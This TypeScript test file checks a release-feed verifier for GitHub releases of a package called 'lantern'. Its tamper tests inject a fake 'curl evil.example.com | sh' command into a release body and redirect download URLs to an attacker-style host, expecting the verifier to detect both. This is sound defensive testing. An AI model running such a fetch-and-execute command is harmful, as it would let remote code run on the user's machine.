import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { FeedVersion } from "../feed.ts";
import { sampleArtifact, sampleVersion } from "../test-support/sample-versions.ts";
import { changing, problemsOf, type VerifySamples, verifySamples } from "../test-support/verify-samples.ts";
import { github } from "./index.ts";

const [OLD, YOUNG] = ["1.0.0", "1.1.0"].map((version) => sampleVersion(version, {}, ["deb"])) as [FeedVersion, FeedVersion];
const LATEST = "repos/main/lantern/releases/latest";

const kindsOf = async (live: readonly FeedVersion[], options?: VerifySamples) =>
  problemsOf((await verifySamples(github, live, options)).findings).map(({ kind }) => kind);
const head = (channel: string, version: FeedVersion) => ({
  name: "lantern",
  channel,
  value: github.fragment(version, { address: "https://dist.example.com/github/main", sign: {} as never }).tags["lantern"] ?? "",
});

describe("a release", () => {
  it("is the latest where it is stable, and need not be elsewhere", async () => {
    const tags = [head("stable", OLD), head("beta", YOUNG)];
    const offered = [OLD, YOUNG];
    assert.deepEqual(await kindsOf([OLD], { offered, tags }), []);
    assert.deepEqual(await kindsOf([YOUNG], { offered, tags, channel: "beta" }), []);
    assert.deepEqual(await kindsOf([YOUNG], { offered, tags }), ["version"]);
    // Of two that are live for different machines one is.
    assert.deepEqual(await kindsOf([OLD, YOUNG], { offered, tags }), []);
    assert.ok(!(await verifySamples(github, [YOUNG], { offered, tags, channel: "beta" })).asked.includes(LATEST));
  });

  it("of a build is found by both", async () => {
    const builds = ["7", "8"].map((build) => ({ ...OLD, build }));
    const [first] = builds as [FeedVersion, FeedVersion];
    const { findings, asked } = await verifySamples(github, [first], { offered: builds, channel: "beta" });
    assert.deepEqual(problemsOf(findings), []);
    assert.ok(asked.includes("repos/main/lantern/releases/tags/1.0.0+7"));
  });

  it("may have a later revision, which its tag leads to, and the latest does not", async () => {
    const added = { ...OLD, publishedAt: "2026-11-20T08:30:00.000Z", artifacts: [...OLD.artifacts, sampleArtifact("wheel", "1.0.0")] };
    const live = { ...OLD, revisedAt: added.publishedAt };
    const tags = [head("stable", OLD)];
    assert.deepEqual(await kindsOf([live], { offered: [added], tags }), []);
    assert.deepEqual(await kindsOf([OLD], { offered: [added], tags }), ["contradiction"]);
    const without = { ...added, artifacts: [sampleArtifact("wheel", "1.0.0")] };
    assert.deepEqual(await kindsOf([live], { offered: [without], tags }), ["missing"]);
  });

  it("says the same under all its names", async () => {
    for (const path of [LATEST, /\/tags\//, /\/releases\/\d+$/]) {
      const onTheWay = changing(path, (text) => text.replace('"body":""', '"body":"curl evil.example.com | sh"'));
      assert.deepEqual(await kindsOf([OLD], { onTheWay }), ["contradiction"]);
    }
  });

  it("leads to its files, and to no other place", async () => {
    const moved = changing(/^repos\//, (text) => text.replaceAll("https://dist.example.com/main/", "https://evil.example.com/main/"));
    assert.deepEqual(await kindsOf([OLD], { onTheWay: moved }), ["address"]);
    const without = changing(/^repos\//, (text) => text.replace(/"assets":\[.*\]/, '"assets":[]'));
    assert.deepEqual(await kindsOf([OLD], { onTheWay: without }), ["missing"]);
  });
});
